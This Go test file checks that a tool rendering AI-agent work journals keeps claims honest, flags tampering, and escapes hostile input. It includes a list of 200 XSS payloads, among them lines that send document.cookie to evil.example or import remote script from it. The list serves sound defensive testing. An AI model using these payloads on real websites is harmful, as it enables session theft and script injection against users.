package page_test

import (
	"errors"
	"fmt"
	"maps"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"github.com/google/go-cmp/cmp"

	"github.com/goatnote-inc/pawl/internal/base/words"
	"github.com/goatnote-inc/pawl/internal/learn/gates"
	"github.com/goatnote-inc/pawl/internal/learn/journal"
	"github.com/goatnote-inc/pawl/internal/learn/page"
	"github.com/goatnote-inc/pawl/internal/report"
)

func sessionPage(t testing.TB, s *journal.Session, chain error) string {
	t.Helper()
	return text(t, func(b *strings.Builder) error { return page.Session(b, s, chain, began.Add(time.Hour)) })
}

// outline is the text of a page by the elements that carry it.
func outline(t testing.TB, page string) string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	told := map[string]bool{"h1": true, "h2": true, "p": true, "li": true, "dt": true, "dd": true, "th": true, "td": true, "blockquote": true, "section": true, "code": true}
	var walk func(n *html.Node, depth int)
	walk = func(n *html.Node, depth int) {
		if n.Type == html.ElementNode && (n.Data == "style" || n.Data == "script") {
			return
		}
		if n.Type == html.ElementNode && told[n.Data] {
			fmt.Fprintf(&b, "%s%s\n", strings.Repeat("  ", depth), n.Data)
			depth++
		}
		if n.Type == html.TextNode {
			if words := strings.Join(strings.Fields(n.Data), " "); words != "" {
				fmt.Fprintf(&b, "%s%s\n", strings.Repeat("  ", depth), words)
			}
		}
		for c := range n.ChildNodes() {
			walk(c, depth)
		}
	}
	walk(root, 0)
	return b.String()
}

func TestSessionGolden(t *testing.T) {
	golden(t, "session.html.txt", []byte(outline(t, sessionPage(t, madeSession(t, "agent.jsonl"), nil))))
}

// What somebody claims is held against records where it is a number, and left text where it
// is text.
func TestClaims(t *testing.T) {
	better := measured("r", "improvement", 20000, 250000, 1.3) // 1.28x and 1.32x of the reference
	worse := measured("r", "regression", 40000, 500000, 0.9)
	run := func(m *journal.Measured, definition string) journal.Entry {
		return at(1, coder, did(journal.Did{Command: "bench", Measured: m, Definition: definition}))
	}
	for _, test := range []struct {
		name    string
		entries []journal.Entry
		end     journal.Ended
		want    string
	}{
		{"nothing measured", nil, journal.Ended{Outcome: journal.Reached}, "no record"},
		{"a number from nowhere", nil, journal.Ended{Outcome: journal.Nothing, Speedup: 2}, "no record"},
		{"reached, as measured", []journal.Entry{run(better, "a")}, journal.Ended{Outcome: journal.Reached, Speedup: 1.3}, "agrees"},
		{"a better number than measured", []journal.Entry{run(better, "a")}, journal.Ended{Outcome: journal.Reached, Speedup: 1.5}, "differs"},
		{"reached below the target", []journal.Entry{run(worse, "a")}, journal.Ended{Outcome: journal.Reached}, "differs"},
		{"better, and slower", []journal.Entry{run(worse, "a")}, journal.Ended{Outcome: journal.Better}, "differs"},
		{"better at some time", []journal.Entry{run(better, "a"), run(worse, "a")}, journal.Ended{Outcome: journal.Better}, "agrees"},
		{"reached by another yardstick", []journal.Entry{run(worse, "a"), run(better, "b")}, journal.Ended{Outcome: journal.Reached}, "in doubt"},
		{"gave up", []journal.Entry{run(worse, "a")}, journal.Ended{Outcome: journal.Stopped}, "text"},
	} {
		s := &journal.Session{Started: started, Began: began, Ended: &test.end}
		s.Entries = append(append(s.Entries, test.entries...), at(2, coder, journal.Entry{Ended: &test.end}))
		out := sessionPage(t, s, nil)
		if fine := test.want == "agrees" || test.want == "text"; strings.Contains(out, ">claimed: ") == fine {
			t.Errorf("%s: the heading does not say what the records say", test.name)
		}
		_, proof, _ := strings.Cut(out, `<div class="proof">`)
		proof, _, _ = strings.Cut(proof, "</div>")
		if !strings.Contains(proof, ">"+test.want+"</span>") {
			t.Errorf("%s: not %q in\n%s", test.name, test.want, proof)
		}
	}
}

// A journal that was changed says so at the top, before anything that stands in it.
func TestBrokenChain(t *testing.T) {
	s := madeSession(t, "agent.jsonl")
	out := sessionPage(t, s, &journal.BrokenError{Path: "x.jsonl", Line: 7, Why: "the line before is another than it names"})
	alarm, claims := strings.Index(out, "not as it was written"), strings.Index(out, "Claims beside evidence")
	if alarm < 0 || alarm > claims || !strings.Contains(out, "line 7: the line before is another than it names") || strings.Contains(out, "chain intact") {
		t.Errorf("a broken journal looks like a whole one: %d, %d", alarm, claims)
	}
	if out := sessionPage(t, s, nil); !strings.Contains(out, "chain intact") {
		t.Error("a whole journal is not called so")
	}
}

// An override that a program wrote into the file is not shown as a person's.
func TestForgedOverride(t *testing.T) {
	s := &journal.Session{Started: started, Began: began, Entries: []journal.Entry{at(1, coder, journal.Entry{Overrode: &journal.Overrode{Gate: "definition", Reason: "trust me"}})}}
	if out := sessionPage(t, s, nil); !strings.Contains(out, "No person wrote this entry") {
		t.Error("a program's override passes for a person's")
	}
}

// payloads are 200 texts that become something else where a page does not take care.
func payloads() []string {
	do := []string{"alert(1)", "window.__hit=1", "fetch('https://evil.example/'+document.cookie)", "parent.__hit=1", "import('https://evil.example/x.js')"}
	forms := []string{
		`<script>%s</script>`, `</script><script>%s</script>`, `<ScRiPt src=//evil.example>%s</sCrIpT>`, `"><script>%s</script>`, `'><script>%s</script>`,
		`<img src=x onerror=%s>`, `"><img src=x onerror="%s">`, `<svg onload=%s>`, `<svg><script>%s</script></svg>`, `<svg><animate onbegin=%s attributeName=x dur=1s>`,
		`<body onload=%s>`, `<iframe src="javascript:%s">`, `<iframe srcdoc="<script>%s</script>">`, `<a href="javascript:%s">x</a>`, `javascript:%s`,
		`" onmouseover="%s`, `' onfocus='%s' autofocus='`, "` onclick=`%s", `x" style="x:expression(%s)`, `<style>@import 'https://evil.example/%s';</style>`,
		`</style><script>%s</script>`, `</title><script>%s</script>`, `</textarea><script>%s</script>`, `--><script>%s</script>`, `]]><script>%s</script>`,
		`</blockquote></li></ol><form action=//evil.example>%s`, `<details open ontoggle=%s>`, `<video><source onerror=%s></video>`, `<object data="javascript:%s">`, `<embed src="javascript:%s">`,
		`<meter onclick=%s value=1>`, `<base href="https://evil.example/%s/">`, `<meta http-equiv=refresh content="0;url=javascript:%s">`, `<link rel=stylesheet href="https://evil.example/%s">`, `{{%s}}`,
		`${%s}`, "\\u003cscript\\u003e%s\\u003c/script\\u003e", `&lt;script&gt;%s&lt;/script&gt;`, "<scr\x00ipt>%s</script>", "\u202e<b onpointerenter=%s>\u2028\x1b[31m",
	}
	var list []string
	for _, form := range forms {
		for _, what := range do {
			list = append(list, fmt.Sprintf(form, what))
		}
	}
	return list
}

// hostileSession says x wherever a journal says anything.
func hostileSession(x string) *journal.Session {
	change := []journal.Change{{What: journal.ChangeKind(x), File: x, Name: x, Before: x, After: x}}
	by := journal.Actor{Kind: journal.Agent, Name: x}
	m := &journal.Measured{Run: x, Path: x, Digest: x, Verdict: x, Trust: x, Cases: []journal.MeasuredCase{{Case: x, Candidate: 1, Base: 2, Reference: 3, Verdict: x}}}
	s := &journal.Session{Began: began, Started: journal.Started{
		ID: x, Goal: x, Benchmark: x, Suite: x, Reference: x, Commit: x, Device: x, GPU: x, Budget: &journal.Budget{Seconds: 1, Dollars: 1}, Planned: 1,
	}}
	end := &journal.Ended{Outcome: journal.Result(x), Text: x, Lesson: x, Commit: x, Speedup: 3}
	s.Entries = []journal.Entry{
		{Time: began, Actor: by, Kind: journal.KindStarted, Started: &s.Started},
		at(1, by, did(journal.Did{
			Command: x, Args: []string{x, x}, Exit: 1, Error: x, Source: x, Definition: x, Changes: change, Seconds: 2, Dollars: 1, Device: 5,
			Environment: &journal.Environment{Problems: []string{x}}, Built: &journal.Built{Class: x, Where: x, Text: x},
			Limits:  &journal.Limits{Device: x, Problems: []string{x}},
			Checked: &journal.Checked{Points: 3, Failed: 1, Smallest: x, FirstBad: x, Replay: x, Worst: 1}, Measured: m,
			Profiled: &journal.Profiled{Case: x, Tool: x, Kernel: x, Bottleneck: x, Findings: []journal.Found{{Rule: x, Class: x}}},
			Tuned:    &journal.Tuned{Case: x, Point: map[string]string{x: x}, Speedup: 2},
		})),
		at(2, by, did(journal.Did{Command: x, Definition: x + "other"})),
		at(3, by, journal.Entry{Refused: &journal.Refused{Command: x, Args: []string{x}, Gate: x, Why: x, Instead: x, Changes: change}}),
		at(4, by, journal.Entry{Noted: &journal.Noted{Text: x, Fix: x, Lesson: x}}),
		at(5, by, journal.Entry{Overrode: &journal.Overrode{Gate: x, Reason: x}}),
		at(6, by, journal.Entry{Ended: end}),
	}
	s.Ended = end
	return s
}

func hostileState(x string) page.State {
	g := gates.Gate{ID: x, Title: x, Why: x, Do: x, Run: x, Fails: x, FailRun: x, Says: x, Stops: []string{x}}
	set := &gates.Set{Phases: []gates.Phase{{ID: x, Title: x, Gates: []gates.Gate{g, g}}}, Thresholds: []gates.Threshold{{Name: x, Title: x, Value: 1, Default: 2}}}
	s := hostileSession(x)
	s.Ended = nil
	return page.State{
		Session: s, Chain: errors.New(x), Set: set, Now: began, Next: gates.Step{Phase: x, Gate: x, Stop: true, Do: x, Why: x, Command: x},
		Status: []gates.Status{{Gate: g, Phase: x, Answer: gates.Failed, Sentence: x, Command: x}},
	}
}

// elements counts what a page is made of, and fails on anything that acts.
func elements(t testing.TB, page string) map[string]int {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		count[n.Data]++
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "src" || a.Key == "srcdoc" || a.Key == "action" {
				t.Fatalf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
			if a.Key == "href" && !strings.HasPrefix(a.Val, "#") && a.Val != "/icon.svg" {
				t.Fatalf("a link to %q", a.Val)
			}
		}
	}
	return count
}

// 200 payloads stay text, wherever they stand, on every page.
func TestPayloadsStayText(t *testing.T) {
	pages := map[string]func(string) string{
		"session": func(x string) string { return sessionPage(t, hostileSession(x), errors.New(x)) },
		"guide": func(x string) string {
			return text(t, func(b *strings.Builder) error { return page.Guide{State: hostileState(x)}.HTML(b) })
		},
		"checklist": func(x string) string {
			return get(t, page.Checklist{Look: looking(hostileState(x))}.Handler(), "/", nil).Body.String()
		},
	}
	list := payloads()
	if len(list) != 200 {
		t.Fatalf("%d payloads", len(list))
	}
	for name, render := range pages {
		want := elements(t, render("harmless"))
		for _, x := range list {
			out := render(x)
			if got := elements(t, out); !maps.Equal(got, want) {
				t.Fatalf("%s: %q makes other elements (-want +got):\n%s", name, x, cmp.Diff(want, got))
			}
			if strings.ContainsAny(out, "\x00\x1b\u202e\u2028") {
				t.Fatalf("%s: %q leaves what nobody sees", name, x)
			}
		}
	}
}

// Nor do they do anything to a terminal or to a forge.
func TestPayloadsInText(t *testing.T) {
	for _, x := range payloads() {
		guide := page.Guide{State: hostileState(x)}
		screen := text(t, func(b *strings.Builder) error { return guide.Terminal(b, report.Style{Width: 80}) })
		if strings.ContainsAny(screen, "\x00\x1b\u202e\u2028") {
			t.Fatalf("%q reaches the terminal", x)
		}
		md := text(t, func(b *strings.Builder) error { return guide.Markdown(b) })
		for _, bad := range []string{"<script", "<img", "<svg", "<iframe", "](javascript", "\x1b", "https://"} {
			if strings.Contains(strings.ToLower(md), bad) && !strings.Contains(bad, "://") {
				t.Fatalf("%q leaves %s in Markdown", x, bad)
			}
		}
	}
}

func FuzzSession(f *testing.F) {
	for _, x := range payloads()[:40] {
		f.Add(x)
	}
	want := elements(f, sessionPage(f, hostileSession("harmless"), errors.New("x")))
	f.Fuzz(func(t *testing.T, x string) {
		if strings.TrimSpace(words.Sanitize(x)) == "" {
			t.Skip() // what is empty is left out
		}
		if got := elements(t, sessionPage(t, hostileSession(x), errors.New("x"))); !maps.Equal(got, want) {
			t.Fatalf("%q (-want +got):\n%s", x, cmp.Diff(want, got))
		}
	})
}
